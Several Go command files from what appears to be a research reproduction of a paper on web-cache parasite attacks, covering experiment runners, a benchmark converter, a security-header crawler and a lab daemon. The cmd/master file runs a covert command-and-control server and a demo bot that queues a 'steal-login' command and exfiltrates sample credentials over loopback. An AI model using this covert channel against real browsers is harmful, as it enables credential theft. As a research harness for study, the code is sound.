	fmt.Fprintf(w, "%-22s %-12s %-5s %-28s %s\n", "ID", "SECTION", "DET", "PARAMS", "TITLE")
	for _, s := range artifact.All() {
		var params []string
		for _, p := range s.Params {
			params = append(params, fmt.Sprintf("%s=%d", p.Name, p.Default))
		}
		det := "yes"
		if !s.Deterministic {
			det = "no"
		}
		if _, err := fmt.Fprintf(w, "%-22s %-12s %-5s %-28s %s\n",
			s.ID, s.Section, det, strings.Join(params, ","), s.Title); err != nil {
			return err
		}
	}
	fmt.Fprintf(w, "\n-parallel N sizes the worker pool twice over: scenario-fleet artifacts run\n")
	fmt.Fprintf(w, "N kill-chain jobs at once, and the fleet/* artifacts drain their sharded\n")
	fmt.Fprintf(w, "netsim on N shard workers. Deterministic artifacts (DET=yes) render\n")
	fmt.Fprintf(w, "byte-identically at every N; see docs/SCALING.md.\n")
	return nil
}
