// Command experiments regenerates the paper's tables and figures.
//
// Usage:
//
//	experiments -run all
//	experiments -run table1,table5,fig3 -sites 15000 -days 100
//	experiments -run all -parallel 8
//
// Experiment ids: table1 table2 table3 table4 table5 fig3 fig5 cnc flows
// countermeasures all
//
// -parallel N runs each experiment's independent scenarios on an N-way
// worker pool; the rendered output is byte-identical for every N (the
// cnc throughput run excepted — it measures wall-clock rates).
package main

import (
	"flag"
	"fmt"
	"os"
	"strings"

	"masterparasite/internal/experiments"
	"masterparasite/internal/runner"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "experiments:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("experiments", flag.ContinueOnError)
	runList := fs.String("run", "all", "comma-separated experiment ids, or 'all'")
	sites := fs.Int("sites", 3000, "corpus size for fig3/fig5 (paper: 15000)")
	days := fs.Int("days", 100, "study length in days for fig3")
	payload := fs.Int("payload", 64*1024, "C&C payload bytes for the throughput run")
	parallel := fs.Int("parallel", 0, "scenario worker-pool size (0 = GOMAXPROCS, 1 = sequential)")
	if err := fs.Parse(args); err != nil {
		return err
	}
	pool := runner.New(*parallel)

	registry := map[string]func() (*experiments.Result, error){
		"table1":          func() (*experiments.Result, error) { return experiments.TableI(pool) },
		"table2":          func() (*experiments.Result, error) { return experiments.TableII(pool) },
		"table3":          func() (*experiments.Result, error) { return experiments.TableIII(pool) },
		"table4":          func() (*experiments.Result, error) { return experiments.TableIV(pool) },
		"table5":          func() (*experiments.Result, error) { return experiments.TableV(pool) },
		"fig3":            func() (*experiments.Result, error) { return experiments.Figure3(pool, *sites, *days) },
		"fig5":            func() (*experiments.Result, error) { return experiments.Figure5(pool, *sites) },
		"cnc":             func() (*experiments.Result, error) { return experiments.CNCThroughput(*payload) },
		"flows":           experiments.MessageFlows,
		"countermeasures": func() (*experiments.Result, error) { return experiments.Countermeasures(pool) },
	}
	order := []string{"table1", "table2", "table3", "table4", "table5",
		"fig3", "fig5", "cnc", "flows", "countermeasures"}

	var ids []string
	if *runList == "all" {
		ids = order
	} else {
		ids = strings.Split(*runList, ",")
	}
	for _, id := range ids {
		id = strings.TrimSpace(id)
		fn, ok := registry[id]
		if !ok {
			return fmt.Errorf("unknown experiment %q (known: %s)", id, strings.Join(order, " "))
		}
		res, err := fn()
		if err != nil {
			return fmt.Errorf("%s: %w", id, err)
		}
		fmt.Printf("== %s ==\n%s\n", res.Title, res.Text)
	}
	return nil
}
