// Command benchjson converts `go test -bench -benchmem` text output
// into the machine-readable bench trajectory (BENCH_*.json) that makes
// the repo's speedups provable instead of anecdotal.
//
// It reads benchmark output on stdin and maintains a trajectory file:
//
//	go test -bench=. -benchmem -run='^$' . | benchjson -pr 3 -update BENCH_3.json
//
// The first run against a missing file records the parsed results as
// the immutable "baseline" (and as "current"). Every later -update run
// keeps the recorded baseline, replaces "current" with the fresh
// results, and recomputes per-benchmark speedups — so the file always
// answers "how much faster is HEAD than the pre-PR tree" at a glance.
// Without -update the parsed results are printed to stdout as JSON.
package main

import (
	"bufio"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"os"
	"sort"
	"strconv"
	"strings"
)

// Metric is one benchmark's measured cost. Extra collects custom
// b.ReportMetric units (e.g. the fleet benchmarks' "cpath-events/op"
// critical-path measure), so machine-independent metrics ride the
// trajectory alongside wall-clock ones.
type Metric struct {
	Iterations  int                `json:"iterations"`
	NsPerOp     float64            `json:"ns_per_op"`
	MBPerS      float64            `json:"mb_per_s,omitempty"`
	BPerOp      float64            `json:"b_per_op,omitempty"`
	AllocsPerOp float64            `json:"allocs_per_op,omitempty"`
	Extra       map[string]float64 `json:"extra,omitempty"`
}

// Speedup compares a benchmark's current run against the baseline.
type Speedup struct {
	NsRatio     float64 `json:"ns_ratio"` // baseline ns/op ÷ current ns/op; >1 is faster
	AllocsDelta float64 `json:"allocs_delta,omitempty"`
}

// Trajectory is the BENCH_*.json schema.
type Trajectory struct {
	Schema   string             `json:"schema"`
	PR       int                `json:"pr,omitempty"`
	GoOS     string             `json:"goos,omitempty"`
	GoArch   string             `json:"goarch,omitempty"`
	CPU      string             `json:"cpu,omitempty"`
	Baseline map[string]Metric  `json:"baseline"`
	Current  map[string]Metric  `json:"current"`
	Speedup  map[string]Speedup `json:"speedup"`
}

const schemaID = "bench-trajectory/v1"

func main() {
	pr := flag.Int("pr", 0, "PR number recorded in the trajectory")
	update := flag.String("update", "", "trajectory file to create or refresh (default: print parsed run to stdout)")
	flag.Parse()
	if err := run(os.Stdin, os.Stdout, *pr, *update); err != nil {
		fmt.Fprintln(os.Stderr, "benchjson:", err)
		os.Exit(1)
	}
}

func run(in io.Reader, out io.Writer, pr int, update string) error {
	parsed, meta, err := parseBench(in)
	if err != nil {
		return err
	}
	if len(parsed) == 0 {
		return fmt.Errorf("no benchmark lines on stdin")
	}
	if update == "" {
		enc := json.NewEncoder(out)
		enc.SetIndent("", "  ")
		return enc.Encode(parsed)
	}

	traj := Trajectory{Schema: schemaID, PR: pr}
	if raw, err := os.ReadFile(update); err == nil {
		if err := json.Unmarshal(raw, &traj); err != nil {
			return fmt.Errorf("existing %s: %w", update, err)
		}
	} else if !os.IsNotExist(err) {
		return err
	}
	traj.Schema = schemaID
	if pr != 0 {
		traj.PR = pr
	}
	traj.GoOS, traj.GoArch, traj.CPU = meta.goos, meta.goarch, meta.cpu
	if len(traj.Baseline) == 0 {
		// First recording: the parsed run IS the pre-change baseline.
		traj.Baseline = parsed
	}
	traj.Current = parsed
	traj.Speedup = make(map[string]Speedup)
	for name, cur := range traj.Current {
		base, ok := traj.Baseline[name]
		if !ok || cur.NsPerOp == 0 {
			continue
		}
		traj.Speedup[name] = Speedup{
			NsRatio:     round2(base.NsPerOp / cur.NsPerOp),
			AllocsDelta: cur.AllocsPerOp - base.AllocsPerOp,
		}
	}

	buf, err := json.MarshalIndent(traj, "", "  ")
	if err != nil {
		return err
	}
	if err := os.WriteFile(update, append(buf, '\n'), 0o644); err != nil {
		return err
	}
	names := make([]string, 0, len(traj.Speedup))
	for n := range traj.Speedup {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		fmt.Fprintf(out, "%-40s %6.2fx ns/op", n, traj.Speedup[n].NsRatio)
		if d := traj.Speedup[n].AllocsDelta; d != 0 {
			fmt.Fprintf(out, "  %+.0f allocs/op", d)
		}
		fmt.Fprintln(out)
	}
	return nil
}

type benchMeta struct {
	goos, goarch, cpu string
}

// parseBench extracts Benchmark lines and the goos/goarch/cpu header
// from `go test -bench` output.
func parseBench(in io.Reader) (map[string]Metric, benchMeta, error) {
	out := make(map[string]Metric)
	var meta benchMeta
	sc := bufio.NewScanner(in)
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		line := sc.Text()
		switch {
		case strings.HasPrefix(line, "goos:"):
			meta.goos = strings.TrimSpace(strings.TrimPrefix(line, "goos:"))
			continue
		case strings.HasPrefix(line, "goarch:"):
			meta.goarch = strings.TrimSpace(strings.TrimPrefix(line, "goarch:"))
			continue
		case strings.HasPrefix(line, "cpu:"):
			meta.cpu = strings.TrimSpace(strings.TrimPrefix(line, "cpu:"))
			continue
		}
		if !strings.HasPrefix(line, "Benchmark") {
			continue
		}
		f := strings.Fields(line)
		if len(f) < 3 {
			continue
		}
		name := stripCPUSuffix(f[0])
		iters, err := strconv.Atoi(f[1])
		if err != nil {
			continue
		}
		m := Metric{Iterations: iters}
		for i := 2; i+1 < len(f); i += 2 {
			v, err := strconv.ParseFloat(f[i], 64)
			if err != nil {
				break
			}
			switch f[i+1] {
			case "ns/op":
				m.NsPerOp = v
			case "MB/s":
				m.MBPerS = v
			case "B/op":
				m.BPerOp = v
			case "allocs/op":
				m.AllocsPerOp = v
			default:
				if m.Extra == nil {
					m.Extra = make(map[string]float64)
				}
				m.Extra[f[i+1]] = v
			}
		}
		out[name] = m
	}
	return out, meta, sc.Err()
}

// stripCPUSuffix removes the "-N" GOMAXPROCS suffix go test appends to
// benchmark names, so trajectories compare across machine widths.
func stripCPUSuffix(name string) string {
	i := strings.LastIndexByte(name, '-')
	if i < 0 {
		return name
	}
	if _, err := strconv.Atoi(name[i+1:]); err != nil {
		return name
	}
	return name[:i]
}

func round2(v float64) float64 {
	return float64(int64(v*100+0.5)) / 100
}
