package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

const sampleBench = `goos: linux
goarch: amd64
pkg: masterparasite
cpu: Intel(R) Xeon(R) Processor @ 2.10GHz
BenchmarkFigure3_Persistency      	       4	 293132153 ns/op	133998090 B/op	 1758511 allocs/op
BenchmarkHTTPSim_MessageRoundTrip-8 	  734816	      1544 ns/op	2696.15 MB/s	    4656 B/op	       7 allocs/op
PASS
ok  	masterparasite	8.8s
`

func TestParseBench(t *testing.T) {
	parsed, meta, err := parseBench(strings.NewReader(sampleBench))
	if err != nil {
		t.Fatal(err)
	}
	if meta.goos != "linux" || meta.goarch != "amd64" || !strings.Contains(meta.cpu, "Xeon") {
		t.Fatalf("meta = %+v", meta)
	}
	fig3, ok := parsed["BenchmarkFigure3_Persistency"]
	if !ok || fig3.NsPerOp != 293132153 || fig3.AllocsPerOp != 1758511 || fig3.Iterations != 4 {
		t.Fatalf("fig3 = %+v ok=%v", fig3, ok)
	}
	// The -8 GOMAXPROCS suffix must be stripped so trajectories compare
	// across machines.
	rt, ok := parsed["BenchmarkHTTPSim_MessageRoundTrip"]
	if !ok || rt.MBPerS != 2696.15 || rt.BPerOp != 4656 {
		t.Fatalf("roundtrip = %+v ok=%v", rt, ok)
	}
}

// TestParseBenchCapturesExtraMetrics: custom b.ReportMetric units — the
// fleet benchmarks' machine-independent work accounting — must land in
// Metric.Extra, with the GOMAXPROCS suffix stripped from sub-benchmark
// names ("workers=8-1" → "workers=8").
func TestParseBenchCapturesExtraMetrics(t *testing.T) {
	const fleetBench = `goos: linux
BenchmarkFleet_ShardedScaling/workers=8-1         	      14	  96646996 ns/op	     24080 boundary/op	     48300 cpath-events/op	    204712 events/op
PASS
`
	parsed, _, err := parseBench(strings.NewReader(fleetBench))
	if err != nil {
		t.Fatal(err)
	}
	m, ok := parsed["BenchmarkFleet_ShardedScaling/workers=8"]
	if !ok {
		t.Fatalf("sub-benchmark name not normalised: %v", parsed)
	}
	if m.NsPerOp != 96646996 || m.Iterations != 14 {
		t.Fatalf("metric = %+v", m)
	}
	want := map[string]float64{"boundary/op": 24080, "cpath-events/op": 48300, "events/op": 204712}
	for unit, v := range want {
		if m.Extra[unit] != v {
			t.Fatalf("extra[%s] = %v, want %v (extra=%v)", unit, m.Extra[unit], v, m.Extra)
		}
	}
}

func TestUpdatePreservesBaselineAndComputesSpeedup(t *testing.T) {
	file := filepath.Join(t.TempDir(), "BENCH_T.json")

	// First run seeds baseline == current.
	if err := run(strings.NewReader(sampleBench), os.Stderr, 3, file); err != nil {
		t.Fatal(err)
	}
	// Second run: twice as fast, fewer allocs.
	faster := strings.ReplaceAll(sampleBench, "293132153 ns/op", "146566076 ns/op")
	faster = strings.ReplaceAll(faster, "1758511 allocs/op", "400000 allocs/op")
	if err := run(strings.NewReader(faster), os.Stderr, 3, file); err != nil {
		t.Fatal(err)
	}

	raw, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	var traj Trajectory
	if err := json.Unmarshal(raw, &traj); err != nil {
		t.Fatal(err)
	}
	if traj.Schema != schemaID || traj.PR != 3 {
		t.Fatalf("identity = %q pr=%d", traj.Schema, traj.PR)
	}
	if traj.Baseline["BenchmarkFigure3_Persistency"].NsPerOp != 293132153 {
		t.Fatal("baseline was overwritten by the second run")
	}
	if traj.Current["BenchmarkFigure3_Persistency"].NsPerOp != 146566076 {
		t.Fatal("current not refreshed")
	}
	sp := traj.Speedup["BenchmarkFigure3_Persistency"]
	if sp.NsRatio < 1.99 || sp.NsRatio > 2.01 {
		t.Fatalf("ns ratio = %v, want ≈2", sp.NsRatio)
	}
	if sp.AllocsDelta != 400000-1758511 {
		t.Fatalf("allocs delta = %v", sp.AllocsDelta)
	}
}

func TestRunRejectsEmptyInput(t *testing.T) {
	if err := run(strings.NewReader("no benchmarks here\n"), os.Stderr, 0, ""); err == nil {
		t.Fatal("empty input accepted")
	}
}
