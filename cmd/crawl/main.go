// Command crawl runs the persistency crawler and the security-header
// survey over the synthetic Alexa population at full measurement scale.
// Both measurements are the registry artifacts behind Fig. 3 and
// Fig. 5 — crawl is a thin frontend over the same specs cmd/experiments
// drives, defaulting to the paper's population size.
//
//	crawl -sites 15000 -days 100
//	crawl -survey-only -format json
//	crawl -targets
package main

import (
	"flag"
	"fmt"
	"io"
	"os"
	"sort"
	"strings"

	"masterparasite/internal/artifact"
	"masterparasite/internal/crawler"
	_ "masterparasite/internal/experiments" // self-registers the fig3/fig5 artifacts
	"masterparasite/internal/runner"
	"masterparasite/internal/webcorpus"
)

func main() {
	if err := run(os.Args[1:], os.Stdout); err != nil {
		fmt.Fprintln(os.Stderr, "crawl:", err)
		os.Exit(1)
	}
}

func run(args []string, stdout io.Writer) error {
	fs := flag.NewFlagSet("crawl", flag.ContinueOnError)
	sites := fs.Int("sites", webcorpus.DefaultSites, "population size")
	days := fs.Int("days", webcorpus.StudyDays, "study duration in days")
	seed := fs.Int("seed", 1, "corpus seed")
	format := fs.String("format", "text", fmt.Sprintf("output format: %s", strings.Join(artifact.Formats(), ", ")))
	surveyOnly := fs.Bool("survey-only", false, "only run the header survey")
	targets := fs.Bool("targets", false, "list per-site infection targets (name-stable scripts)")
	parallel := fs.Int("parallel", 0, "crawl worker-pool size (0 = GOMAXPROCS)")
	if err := fs.Parse(args); err != nil {
		return err
	}
	renderer, err := artifact.RendererFor(*format)
	if err != nil {
		return err
	}
	pool := runner.New(*parallel)
	overrides := map[string]int{"sites": *sites, "days": *days, "seed": *seed}

	ids := []string{"fig5"}
	if !*surveyOnly {
		ids = append(ids, "fig3")
	}
	for _, id := range ids {
		spec, ok := artifact.Get(id)
		if !ok {
			return fmt.Errorf("artifact %s not registered", id)
		}
		_, rendered, err := artifact.RunRendered(spec, pool, overrides, renderer)
		if err != nil {
			return err
		}
		if _, err := stdout.Write(rendered); err != nil {
			return err
		}
	}
	if *surveyOnly {
		// The survey is everything that was asked for — skip the crawl
		// AND the targets listing, exactly like the pre-registry CLI.
		return nil
	}

	if *targets {
		corpus := webcorpus.Generate(webcorpus.Params{Sites: *sites, Seed: int64(*seed)})
		base := crawler.CrawlBaseline(pool, corpus)
		sel := crawler.SelectTargetsFrom(pool, base, *days)
		fmt.Fprintf(stdout, "\nsites with whole-window name-stable scripts: %d\n", len(sel))
		hosts := make([]string, 0, len(sel))
		for host := range sel {
			hosts = append(hosts, host)
		}
		sort.Strings(hosts)
		for shown, host := range hosts {
			if shown >= 10 {
				fmt.Fprintf(stdout, "  ... (%d more)\n", len(sel)-shown)
				break
			}
			fmt.Fprintf(stdout, "  %s: %v\n", host, sel[host])
		}
	}
	return nil
}
