// Command crawl runs the persistency crawler and the security-header
// survey over the synthetic Alexa population (Fig. 3 / Fig. 5 data).
//
//	crawl -sites 15000 -days 100
//	crawl -survey-only
package main

import (
	"flag"
	"fmt"
	"os"

	"masterparasite/internal/crawler"
	"masterparasite/internal/runner"
	"masterparasite/internal/webcorpus"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "crawl:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("crawl", flag.ContinueOnError)
	sites := fs.Int("sites", webcorpus.DefaultSites, "population size")
	days := fs.Int("days", webcorpus.StudyDays, "study duration in days")
	seed := fs.Int64("seed", 1, "corpus seed")
	surveyOnly := fs.Bool("survey-only", false, "only run the header survey")
	targets := fs.Bool("targets", false, "list per-site infection targets (name-stable scripts)")
	parallel := fs.Int("parallel", 0, "crawl worker-pool size (0 = GOMAXPROCS)")
	if err := fs.Parse(args); err != nil {
		return err
	}
	pool := runner.New(*parallel)

	corpus := webcorpus.Generate(webcorpus.Params{Sites: *sites, Seed: *seed})
	fmt.Printf("corpus: %d sites (seed %d)\n\n", *sites, *seed)

	survey := crawler.SurveyHeaders(pool, corpus)
	fmt.Printf("responders:        %d\n", survey.Responders)
	fmt.Printf("no HTTPS:          %.2f%%\n", survey.NoHTTPSShare)
	fmt.Printf("vulnerable SSL:    %.2f%%\n", survey.VulnSSLShare)
	fmt.Printf("no HSTS:           %.2f%% (preloaded: %d, strippable: %.2f%%)\n",
		survey.NoHSTSShare, survey.PreloadCount, survey.StrippableShare)
	fmt.Printf("CSP header:        %.2f%% (deprecated: %.1f%%, versions: %v)\n",
		survey.CSPHeaderShare, survey.DeprecatedShare, survey.VersionCounts)
	fmt.Printf("connect-src:       %d uses, %d wildcards\n",
		survey.ConnectSrcUses, survey.ConnectSrcStar)
	fmt.Printf("shared analytics:  %.1f%%\n\n", crawler.AnalyticsShare(corpus))

	if *surveyOnly {
		return nil
	}

	fmt.Printf("running daily crawl over %d days...\n", *days)
	res := crawler.CrawlPersistency(pool, corpus, *days)
	fmt.Printf("%-6s %-10s %-18s %-18s\n", "day", "any .js", "persistent(hash)", "persistent(name)")
	for _, day := range []int{0, 1, 2, 5, 10, 20, 40, 60, 80, *days} {
		if day > *days {
			continue
		}
		p := res.At(day)
		fmt.Printf("%-6d %-10.2f %-18.2f %-18.2f\n", p.Day, p.AnyJS, p.PersistentHash, p.PersistentName)
	}

	if *targets {
		sel := crawler.SelectTargets(corpus, *days)
		fmt.Printf("\nsites with whole-window name-stable scripts: %d\n", len(sel))
		shown := 0
		for host, names := range sel {
			fmt.Printf("  %s: %v\n", host, names)
			shown++
			if shown >= 10 {
				fmt.Printf("  ... (%d more)\n", len(sel)-shown)
				break
			}
		}
	}
	return nil
}
