// Command master runs the real-HTTP covert C&C endpoint (§VI-C) on a
// loopback or LAN socket, optionally driving a demo bot against itself.
//
//	master -listen 127.0.0.1:8944
//	master -demo            # starts a server and exercises a bot once
package main

import (
	"context"
	"flag"
	"fmt"
	"net"
	"net/http"
	"os"
	"time"

	"masterparasite/internal/cnc"
	"masterparasite/internal/daemon"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "master:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("master", flag.ContinueOnError)
	listen := fs.String("listen", "127.0.0.1:0", "listen address")
	demo := fs.Bool("demo", false, "run a self-contained bot demo and exit")
	drain := fs.Duration("drain", 10*time.Second, "graceful shutdown deadline")
	if err := fs.Parse(args); err != nil {
		return err
	}

	m := cnc.NewMasterServer()
	ln, err := net.Listen("tcp", *listen)
	if err != nil {
		return fmt.Errorf("listen: %w", err)
	}
	base := "http://" + ln.Addr().String()
	fmt.Printf("C&C master listening on %s\n", base)
	fmt.Println("routes: /meta/{bot}.svg  /img/{bot}/{id}/{seq}.svg  /up/{bot}/{stream}/{seq}/{chunk}")

	srv := &http.Server{Handler: m, ReadHeaderTimeout: 5 * time.Second}
	if !*demo {
		// Serve until SIGINT/SIGTERM, then let in-flight polls and
		// uploads finish before exiting (same helper as cmd/labd).
		return daemon.Serve(srv, ln, *drain)
	}

	done := make(chan struct{})
	go func() {
		defer close(done)
		_ = srv.Serve(ln)
	}()
	defer func() {
		_ = srv.Close()
		<-done
	}()

	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	id := m.QueueCommand("demo-bot", []byte("steal-login|bank.example"))
	fmt.Printf("queued command %d for demo-bot\n", id)

	bot := &cnc.Bot{BaseURL: base, ID: "demo-bot", Concurrency: 8}
	cmd, gotID, ok, err := bot.Poll(ctx)
	if err != nil || !ok {
		return fmt.Errorf("bot poll: ok=%v err=%w", ok, err)
	}
	fmt.Printf("bot decoded command %d from image dimensions: %q\n", gotID, cmd)

	if err := bot.Upload(ctx, "creds", []byte(`{"user":"alice","pass":"hunter2"}`)); err != nil {
		return fmt.Errorf("bot upload: %w", err)
	}
	loot, _ := m.Upload("demo-bot", "creds")
	fmt.Printf("master received exfiltrated stream 'creds': %s\n", loot)
	return nil
}
