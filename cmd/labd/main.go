// Command labd is the attack-lab orchestrator daemon: the long-lived
// serving layer over the artifact registry (see internal/labd). It
// exposes the run API over real net/http, drains a FIFO queue through a
// bounded set of scenario fleets, persists durable run records under
// -store, streams per-run progress as SSE, and shuts down gracefully on
// SIGINT/SIGTERM — in-flight runs finish, queued runs stay durably
// queued for the next process.
//
//	labd -listen 127.0.0.1:8970 -store labd-data -fleets 2
//	curl -s localhost:8970/v1/specs
//	curl -s -X POST localhost:8970/v1/runs -d '{"spec":"flows","format":"json"}'
//	curl -s localhost:8970/v1/runs/run-000001/events   # SSE progress
//	curl -s localhost:8970/v1/runs/run-000001/artifact
//
// -smoke runs the CI gate instead of serving: start a daemon on an
// ephemeral loopback port, enqueue one artifact over real HTTP, poll it
// to completion, and assert the served SHA-256 fingerprint equals the
// batch CLI's manifest entry for the same spec, params, and format.
//
// -chaos <seed> serves with deterministic storage chaos armed: every
// store.* fault site (internal/chaos) fails on a seeded recurring
// schedule, so operators can rehearse how clients and the recovery
// path behave under ENOSPC, torn writes, failed renames, and fsync
// errors. The daemon must survive everything -chaos injects; the same
// seed replays the same fault schedule.
package main

import (
	"bytes"
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strings"
	"time"

	"masterparasite/internal/artifact"
	"masterparasite/internal/chaos"
	"masterparasite/internal/daemon"
	_ "masterparasite/internal/experiments" // self-registers the paper's artifacts
	"masterparasite/internal/labd"
	"masterparasite/internal/runner"
)

func main() {
	if err := run(os.Args[1:], os.Stdout); err != nil {
		fmt.Fprintln(os.Stderr, "labd:", err)
		os.Exit(1)
	}
}

func run(args []string, stdout io.Writer) error {
	fs := flag.NewFlagSet("labd", flag.ContinueOnError)
	listen := fs.String("listen", "127.0.0.1:8970", "listen address")
	storeDir := fs.String("store", "labd-data", "durable run-record directory")
	fleets := fs.Int("fleets", 2, "concurrent run fleets draining the queue")
	workers := fs.Int("workers", 0, "per-run scenario pool width (0 = GOMAXPROCS)")
	drain := fs.Duration("drain", 30*time.Second, "graceful shutdown deadline")
	smoke := fs.Bool("smoke", false, "run the serving smoke gate and exit")
	smokeSpec := fs.String("spec", "flows", "artifact to enqueue in -smoke mode")
	smokeFormat := fs.String("format", "json", "render format in -smoke mode")
	chaosSeed := fs.Int64("chaos", 0, "arm recurring storage faults from this seed (0 = off)")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *chaosSeed < 0 {
		return fmt.Errorf("chaos seed must be positive, got %d", *chaosSeed)
	}
	if *chaosSeed != 0 && *smoke {
		return fmt.Errorf("-chaos and -smoke are mutually exclusive: the smoke gate asserts byte-identity, chaos injects faults")
	}

	if *smoke {
		dir, err := os.MkdirTemp("", "labd-smoke-*")
		if err != nil {
			return err
		}
		defer os.RemoveAll(dir)
		return runSmoke(dir, *smokeSpec, *smokeFormat, *workers, stdout)
	}

	cfg := labd.Config{StoreDir: *storeDir, Fleets: *fleets, Workers: *workers}
	if *chaosSeed != 0 {
		ctrl := chaos.New(*chaosSeed)
		ctrl.ArmStoreFaults()
		cfg.Chaos = ctrl
		cfg.FS = chaos.BindFS(ctrl)
	}
	srv, err := labd.Open(cfg)
	if err != nil {
		return err
	}
	ln, err := net.Listen("tcp", *listen)
	if err != nil {
		return fmt.Errorf("listen: %w", err)
	}
	if *chaosSeed != 0 {
		fmt.Fprintf(stdout, "labd chaos armed: recurring store.* faults, seed %d\n", *chaosSeed)
	}
	fmt.Fprintf(stdout, "labd listening on http://%s (store %s, %d fleets)\n", ln.Addr(), *storeDir, *fleets)
	fmt.Fprintln(stdout, "routes: /healthz /readyz /v1/specs /v1/runs /v1/runs/{id}{,/artifact,/events}")
	httpSrv := &http.Server{Handler: srv, ReadHeaderTimeout: 5 * time.Second}
	return daemon.Serve(httpSrv, ln, *drain, srv.Close)
}

// runSmoke is the end-to-end serving gate: daemon on a loopback port,
// one artifact enqueued over real net/http, polled to completion, and
// its fingerprint checked against the batch CLI's manifest entry.
func runSmoke(storeDir, specID, format string, workers int, stdout io.Writer) error {
	spec, ok := artifact.Get(specID)
	if !ok {
		return fmt.Errorf("smoke: unknown spec %q (known: %s)", specID, strings.Join(artifact.IDs(), " "))
	}

	srv, err := labd.Open(labd.Config{StoreDir: storeDir, Fleets: 1, Workers: workers})
	if err != nil {
		return err
	}
	defer func() {
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		_ = srv.Close(ctx)
	}()
	base, shutdown, err := srv.Serve()
	if err != nil {
		return err
	}
	defer func() { _ = shutdown() }()
	fmt.Fprintf(stdout, "smoke: daemon on %s, enqueueing %s (%s)\n", base, specID, format)

	enqBody := fmt.Sprintf(`{"spec":%q,"format":%q}`, specID, format)
	resp, err := http.Post(base+"/v1/runs", "application/json", strings.NewReader(enqBody))
	if err != nil {
		return fmt.Errorf("smoke enqueue: %w", err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusAccepted {
		return fmt.Errorf("smoke enqueue: %d %s", resp.StatusCode, body)
	}
	var rec labd.Record
	if err := json.Unmarshal(body, &rec); err != nil {
		return fmt.Errorf("smoke enqueue decode: %w", err)
	}

	final, err := pollRun(base, rec.ID, 2*time.Minute)
	if err != nil {
		return err
	}
	if final.Status != labd.StatusDone {
		return fmt.Errorf("smoke run %s ended %s: %s", rec.ID, final.Status, final.Error)
	}

	art, err := http.Get(base + "/v1/runs/" + rec.ID + "/artifact")
	if err != nil {
		return fmt.Errorf("smoke artifact: %w", err)
	}
	served, _ := io.ReadAll(art.Body)
	art.Body.Close()

	// The batch side: exactly the cmd/experiments code path, fingerprinted
	// through the same manifest the CI artifacts carry.
	renderer, err := artifact.RendererFor(format)
	if err != nil {
		return err
	}
	res, rendered, err := artifact.RunRendered(spec, runner.New(1), final.Params, renderer)
	if err != nil {
		return fmt.Errorf("smoke batch render: %w", err)
	}
	manifest := artifact.NewManifest(format, 1)
	manifest.Add(spec, res, rendered)
	want := manifest.Artifacts[0].SHA256

	if !bytes.Equal(served, rendered) {
		return fmt.Errorf("smoke: served artifact (%d bytes) diverges from batch render (%d bytes)", len(served), len(rendered))
	}
	if final.SHA256 != want {
		return fmt.Errorf("smoke: served fingerprint %s != batch manifest %s", final.SHA256, want)
	}
	fmt.Fprintf(stdout, "smoke: PASS %s %s sha256=%s (%d bytes, %d stages)\n",
		rec.ID, specID, final.SHA256, final.Bytes, len(final.Stages))
	return nil
}

// pollRun GETs the run record until it reaches a terminal status.
func pollRun(base, id string, timeout time.Duration) (*labd.Record, error) {
	deadline := time.Now().Add(timeout)
	for {
		resp, err := http.Get(base + "/v1/runs/" + id)
		if err != nil {
			return nil, fmt.Errorf("smoke poll: %w", err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		var rec labd.Record
		if err := json.Unmarshal(body, &rec); err != nil {
			return nil, fmt.Errorf("smoke poll decode: %w (%s)", err, body)
		}
		if rec.Status.Terminal() {
			return &rec, nil
		}
		if time.Now().After(deadline) {
			return nil, fmt.Errorf("smoke poll: run %s still %s after %s", id, rec.Status, timeout)
		}
		time.Sleep(50 * time.Millisecond)
	}
}
