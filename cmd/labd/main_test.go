package main

import (
	"strings"
	"testing"
)

// TestFlagValidation locks the upfront CLI contract: bad invocations
// fail before a listener ever opens, with errors naming the problem.
func TestFlagValidation(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name string
		args []string
		want string
	}{
		{"negative chaos seed", []string{"-chaos", "-7"}, "chaos seed must be positive"},
		{"chaos with smoke", []string{"-chaos", "42", "-smoke"}, "mutually exclusive"},
		{"unknown flag", []string{"-bogus"}, "flag provided but not defined"},
		{"smoke unknown spec", []string{"-smoke", "-spec", "no-such-artifact"}, "unknown spec"},
	}
	for _, c := range cases {
		c := c
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			err := run(c.args, &strings.Builder{})
			if err == nil || !strings.Contains(err.Error(), c.want) {
				t.Fatalf("run(%v) err = %v, want containing %q", c.args, err, c.want)
			}
		})
	}
}

// TestSmokeGate exercises the -smoke path end to end on an ephemeral
// store: daemon, HTTP enqueue, poll, byte-identity against the batch
// render.
func TestSmokeGate(t *testing.T) {
	if testing.Short() {
		t.Skip("smoke gate runs a full artifact; skipped in -short")
	}
	t.Parallel()
	var out strings.Builder
	if err := runSmoke(t.TempDir(), "flows", "json", 1, &out); err != nil {
		t.Fatalf("smoke gate failed: %v\n%s", err, out.String())
	}
	if !strings.Contains(out.String(), "smoke: PASS") {
		t.Fatalf("smoke gate produced no PASS line:\n%s", out.String())
	}
}
