package main

import (
	"bytes"
	"os"
	"path/filepath"
	"testing"
)

